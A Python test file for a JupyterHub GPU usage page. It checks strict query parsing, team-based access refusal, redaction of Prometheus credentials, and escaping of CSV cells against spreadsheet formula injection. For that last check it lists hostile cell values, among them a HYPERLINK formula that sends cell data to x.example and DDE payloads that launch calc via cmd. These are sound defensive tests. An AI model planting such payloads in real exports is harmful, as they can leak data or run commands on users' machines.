"""The usage page against hostile input (issue #25, its low findings): every query
parameter is parsed strictly and bounded, a lead gets 403 for a user outside their
teams, CSV cells cannot start a spreadsheet formula, and the Prometheus URL's secrets
appear neither on the page nor in the log."""

from __future__ import annotations

import csv
import io
import logging
import re
from html import escape
from urllib.parse import parse_qs

import pytest

from jupyterhub_gpu.usage.access import BadQuery, NotVisible, Query, Selection, Viewer, visible
from jupyterhub_gpu.usage.config import DEFAULT_DAYS, MAX_DAYS
from jupyterhub_gpu.ledger.store import NAME_CHARS, Kind
from jupyterhub_gpu.cull.prometheus import redacted
from jupyterhub_gpu.usage import telemetry
from jupyterhub_gpu.usage.page import FORMULA_START, figures, report, to_csv, to_html
from jupyterhub_gpu.usage.telemetry import Telemetry

from .test_usage_page import ROWS, WINDOW, row


def arguments(query: str) -> dict[str, list[bytes]]:
    """A query string as tornado hands it to a handler (``request.query_arguments``)."""
    return {k: [v.encode("latin-1") for v in vs]
            for k, vs in parse_qs(query, keep_blank_values=True, encoding="latin-1").items()}


def parse(query: str) -> Query:
    return Query.parse(arguments(query), DEFAULT_DAYS, MAX_DAYS)


def test_a_plain_query_is_read():
    assert parse("") == Query(DEFAULT_DAYS, Selection())
    assert parse("days=7&team=a&user=ann") == Query(7, Selection("a", "ann"))
    assert parse("days=366&team=&user=") == Query(366, Selection())  # empty: not given
    assert parse("days=") == Query(DEFAULT_DAYS, Selection())
    assert parse(f"user={'x' * NAME_CHARS}").selection.user == "x" * NAME_CHARS


@pytest.mark.parametrize("query, match", [
    ("days=%C2%B2", "days must be a whole number from 1 to 366, got '²'"),  # str.isdigit: yes
    ("days=%D9%A3", "days must be a whole number"),  # ARABIC-INDIC DIGIT THREE
    ("days=%EF%BC%97", "days must be a whole number"),  # FULLWIDTH DIGIT SEVEN
    ("days=0", "from 1 to 366, got '0'"),
    ("days=367", "from 1 to 366"),
    ("days=-1", "days must be a whole number"),
    ("days=+7", "days must be a whole number"),
    ("days=%207", "days must be a whole number"),
    ("days=7.0", "days must be a whole number"),
    ("days=" + "9" * 5000, "days must be a whole number"),
    ("days=1&days=2", "days must be a whole number from 1 to 366 (give days once, not 2 "),
    ("team=a&team=b", "give team once"),
    ("user=" + "x" * (NAME_CHARS + 1), f"user is longer than {NAME_CHARS} characters"),
    ("team=" + "x" * 100_000, f"team is longer than {NAME_CHARS} characters"),
    ("user=a%00b", "user has a character that is not printable: 'a\\x00b'"),
    ("team=a%0Ab", "team has a character that is not printable"),
    ("user=%FF", "user is not UTF-8"),
    ("format=json", "unknown query parameter 'format'; the page takes days, team, user"),
    ("x" * 300 + "=1", "unknown query parameter 'xxxxxxxx"),
])
def test_a_bad_query_is_refused_with_the_reason(query, match):
    with pytest.raises(BadQuery, match=re.escape(match)) as e:
        parse(query)
    assert len(str(e.value)) < 400  # the message quotes a bounded part of the input


def test_a_lead_asking_for_a_user_outside_their_team_is_refused(spec):
    lead = Viewer.of({"name": "lee", "groups": ["a-leads"]}, spec)
    assert [u.key for u in visible(ROWS, lead, Selection(user="ann"))] == ["1"]
    for selection in (Selection(user="bob"), Selection(team="a", user="bob"),
                      Selection(user="nobody")):
        with pytest.raises(NotVisible, match=f"You may not see user '{selection.user}'"):
            visible(ROWS, lead, selection)
    assert visible(ROWS, lead, Selection(user="lee")) == []  # their own: nothing to hide
    admin = Viewer("root", admin=True)
    assert visible(ROWS, admin, Selection(user="nobody")) == []


HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_csv_cells_never_start_a_formula_and_numbers_are_kept(spec):
    rows = [row(str(i), team=name, user=name, profile=name, server=name, kind=Kind.JOB)
            for i, name in enumerate(HOSTILE)]
    r = report(rows, Viewer("root", admin=True), Selection(), WINDOW, 3, spec,
               Telemetry({}, "no Prometheus is configured"))
    table = list(csv.reader(io.StringIO(to_csv(r), newline="")))
    assert len(table) == 1 + len(list(figures(r)))
    names = {cell for line in table[1:] for cell in line[:3]}
    assert {f"'{name}" for name in HOSTILE} <= names  # each, kept whole behind a quote
    assert not [cell for cell in names if cell.startswith(FORMULA_START)]
    assert [line[3] for line in table[1:]] == [value for *_, value in figures(r)]
    assert ["team", f"'{HOSTILE[0]}", "gpu_hours", "1.00"] in table


def test_the_ledger_export_never_starts_a_formula(tmp_path, capsys):
    from jupyterhub_gpu.cli import main
    from jupyterhub_gpu.ledger.store import Ledger

    url = f"sqlite:///{tmp_path}/usage.sqlite"
    ledger = Ledger(url)
    try:
        for i, name in enumerate(HOSTILE):
            ledger.record_sync(row(f"job:{i}", user=name, server=name, team="a", units=2,
                                   price=0.5, kind=Kind.JOB))
    finally:
        ledger.dispose()
    assert main(["usage", "export", "--db-url", url]) == 0
    header, *lines = csv.DictReader(io.StringIO(capsys.readouterr().out, newline=""))
    table = [header, *lines]
    assert len(table) == len(HOSTILE)
    assert sorted(r["user"] for r in table) == sorted(f"'{n}" for n in HOSTILE)
    assert sorted(r["server"] for r in table) == sorted(f"'{n}" for n in HOSTILE)
    assert {(r["team"], r["gpu_units"], r["price_per_unit_hour"]) for r in table} == {
        ("a", "2", "0.5")}
    assert not [v for r in table for v in r.values() if v.startswith(FORMULA_START)]


SECRETS = ("s3cret", "t0k3n", "prom-reader")
DAY = 24 * 3600


class Prometheus:
    """A real HTTP server in Prometheus's place: ``mode`` "auth" answers the instant
    query to the right basic credentials, "down" answers 503, "loop" redirects to
    itself for ever."""

    def __init__(self, mode: str):
        self.mode, self.seen = mode, []

    async def _any(self, request):
        from aiohttp import web

        self.seen.append((request.path_qs, request.headers.get("Authorization")))
        if self.mode == "loop":
            raise web.HTTPFound(str(request.rel_url))
        if self.mode == "down":
            return web.json_response({"status": "error"}, status=503)
        if request.headers.get("Authorization") != "Basic cHJvbS1yZWFkZXI6czNjcmV0":
            return web.json_response({"status": "error"}, status=401)
        return web.json_response({"status": "success", "data": {"resultType": "vector",
                                  "result": [{"metric": {"namespace": "ns-a"},
                                              "value": [0, "61.5"]}]}})

    async def __aenter__(self) -> str:
        from aiohttp import web

        app = web.Application()
        app.router.add_route("*", "/{tail:.*}", self._any)
        self.runner = web.AppRunner(app)
        await self.runner.setup()
        await web.TCPSite(self.runner, "127.0.0.1", 0).start()
        return f"127.0.0.1:{self.runner.addresses[0][1]}"

    async def __aexit__(self, *exc) -> None:
        await self.runner.cleanup()


def test_redacted_urls_keep_scheme_host_port_and_path():
    assert redacted("http://u:p@prom.monitoring:9090/prom/?token=t#f") == (
        "http://prom.monitoring:9090/prom/")
    assert redacted("https://[fd00::1]:8443/x") == "https://[fd00::1]:8443/x"
    assert redacted("http://prom") == "http://prom"
    assert redacted("http://u:p@h:99999/x") == "http://h/x"  # a bad port: left out
    assert redacted("prom:s3cret@host") == "(a URL without scheme://host)"


def _page(spec, shown: Telemetry) -> str:
    rows = [row("1", team="a", start=WINDOW.start)]
    return to_html(report(rows, Viewer("root", admin=True), Selection(), WINDOW, 3, spec, shown),
                   "usage.csv")


async def test_credentials_reach_prometheus_and_serve_the_page(spec):
    prometheus = Prometheus("auth")
    async with prometheus as address:
        shown = await telemetry.fetch(f"http://prom-reader:s3cret@{address}/prom/?a=t0k3n",
                                      ("ns-a",), DAY, WINDOW.end)
    assert shown == Telemetry({"ns-a": 61.5})
    assert prometheus.seen == [("/prom/api/v1/query?a=t0k3n",
                                "Basic cHJvbS1yZWFkZXI6czNjcmV0")]
    assert 'data-figure="utilization/a/percent">61.5<' in _page(spec, shown)


@pytest.mark.parametrize("mode, url, why", [
    ("down", "http://prom-reader:s3cret@{address}/prom?token=t0k3n", "HTTP 503"),
    ("loop", "http://prom-reader:s3cret@{address}/prom?token=t0k3n", "TooManyRedirects"),
    ("auth", "http://prom-reader:s3cret0@{address}/prom?token=t0k3n", "HTTP 401"),
    ("auth", "http://prom-reader:s3cret@127.0.0.1:99999/prom?token=t0k3n",
     "InvalidUrlClientError"),  # aiohttp's message is the whole URL
    ("auth", "http://prom-reader:s3cret@127.0.0.1:1/prom?token=t0k3n",
     "ClientConnectorError"),
])
async def test_prometheus_secrets_are_never_shown_or_logged(spec, caplog, mode, url,
                                                            why):
    async with Prometheus(mode) as address:
        with caplog.at_level(logging.DEBUG):
            shown = await telemetry.fetch(url.format(address=address), ("ns-a",), DAY,
                                          WINDOW.end)
    page = _page(spec, shown)
    where = redacted(url.format(address=address))
    assert shown.error.startswith(f"Prometheus did not answer ({where}/api/v1/query: ")
    assert why in shown.error and f"No GPU telemetry: {escape(shown.error)}" in page
    ours = "\n".join(r.getMessage() for r in caplog.records
                     if r.name != "aiohttp.access")  # not Prometheus's own access log
    assert f"No GPU telemetry from {where}: " in ours
    for text in (shown.error, page, ours):
        assert not [s for s in SECRETS if s in text], text


def test_the_culler_logs_its_prometheus_without_credentials(example_spec_path, caplog):
    """The same URL (the hub's JUPYTERHUB_GPU_PROMETHEUS_URL) reaches the culler, which
    names it in its start-up line."""
    from prometheus_client import CollectorRegistry

    from jupyterhub_gpu.cull.hook import LOGGER_NAME, HookSettings, make_arbiter
    from jupyterhub_gpu.cull.metrics import CullMetrics

    caplog.set_level(logging.INFO, logger=LOGGER_NAME)
    make_arbiter(HookSettings(str(example_spec_path),
                              "http://prom-reader:s3cret@prom.monitoring:9090/p?token=t0k3n",
                              True), metrics=CullMetrics(CollectorRegistry()))
    assert "GPU usage from http://prom.monitoring:9090/p, DRY RUN" in caplog.text
    assert not [s for s in SECRETS if s in caplog.text]
